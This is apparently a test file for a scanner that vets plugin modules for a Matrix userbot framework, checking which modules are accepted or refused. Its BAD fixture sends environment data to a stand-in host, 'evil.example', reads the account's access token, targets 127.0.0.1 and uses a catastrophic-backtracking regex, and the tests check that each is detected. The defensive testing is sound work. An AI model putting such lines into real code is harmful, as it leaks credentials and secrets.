// The scan's core runs inside workerd too (run-time installs will call it there, with their own
// transpiler): JavaScript in, the same findings and rewrite out, nothing of Node needed.
import { describe, expect, it } from "vitest";
import { hostNameProblem, isRegexSafe, scanSource } from "../../src/scan/index";

const GOOD = `import { defineModule, EVERYONE } from "mxuserbot";

const counts = new Map();

export default defineModule({
  name: "Counter",
  network: ["api.example.com"],
  commands: {
    count: {
      security: EVERYONE,
      async run(ctx) {
        const key = ctx.argv[0] ?? "default";
        const table = { [key]: (counts.get(key) ?? 0) + 1 };
        counts.set(key, table[key]);
        await ctx.respond(\`\${key}: \${table[key]} \${crypto.randomUUID().length}\`);
      },
    },
  },
  watchers: [{ pattern: /^(\\w+)\\s+(.*)$/, security: EVERYONE, async run(ctx) { await ctx.reply(ctx.match[1]); } }],
});
`;

const BAD = `import { defineModule, coreClient } from "mxuserbot";

export default defineModule({
  name: "Prober",
  network: ["127.0.0.1"],
  commands: {
    go: {
      async run(ctx) {
        await fetch("https://evil.example/" + ctx.env);
        await ctx.matrix.getAccessToken();
        void ctx.reply[ctx.args];
      },
    },
  },
  watchers: [{ pattern: /^(a+)+$/, async run() {} }],
});
`;

describe("the scan inside workerd", () => {
  it("accepts an ordinary JavaScript module and rewrites its dynamic keys", () => {
    const result = scanSource(GOOD, "counter.js");
    expect(result.findings).toEqual([]);
    expect(result).toMatchObject({ accepted: true, name: "Counter" });
    expect(result.code).toContain('import { __mxKey } from "mxuserbot";');
    expect(result.code).toContain("table[__mxKey(key)]");
  });

  it("refuses probes, raw network, unknown imports, bad hosts and catastrophic patterns", () => {
    const result = scanSource(BAD, "prober.js");
    expect(result.accepted).toBe(false);
    expect(result.code).toBeNull();
    expect(result.findings.map((f) => [f.rule, f.line, f.column])).toEqual([
      ["import-name", 1, 24],
      ["network-host", 5, 13],
      ["network", 9, 15],
      ["sdk-member", 9, 51],
      ["sdk-member", 10, 26],
      ["dynamic-key", 11, 24],
      ["redos", 15, 25],
    ]);
  });

  it("takes an injected transpiler and maps positions through its source map", () => {
    const typed = BAD.replace("async run(ctx) {", "async run(ctx: Context) {");
    const result = scanSource(typed, "prober.ts", {
      // A stand-in for a type stripper: it removes the one annotation and keeps lines.
      transpile: (source) => ({ ok: true, code: source.replace(": Context", "") }),
    });
    expect(result.findings.find((f) => f.rule === "network")).toMatchObject({ line: 9 });
    const broken = scanSource("x", "x.ts", {
      transpile: () => ({ ok: false, message: "Unexpected x", line: 1, column: 1 }),
    });
    expect(broken.findings).toEqual([expect.objectContaining({ rule: "syntax", line: 1 })]);
    const thrown = scanSource("let = ;", "x.ts", {
      transpile: () => {
        throw Object.assign(new SyntaxError("Unexpected token (1:4)"), {
          loc: { line: 1, column: 4 },
        });
      },
    });
    expect(thrown.findings).toEqual([
      expect.objectContaining({ rule: "syntax", line: 1, column: 5 }),
    ]);
  });

  it("exports the checks the core repeats at load time", () => {
    expect(isRegexSafe("\\bafk\\b", "i")).toBe(true);
    expect(isRegexSafe("^(\\w+)\\s+(.*)$")).toBe(true);
    expect(isRegexSafe("(a|a)*$")).toBe(false);
    expect(hostNameProblem("api.example.com")).toBeNull();
    expect(hostNameProblem("localhost")).toMatch(/local name/);
  });
});
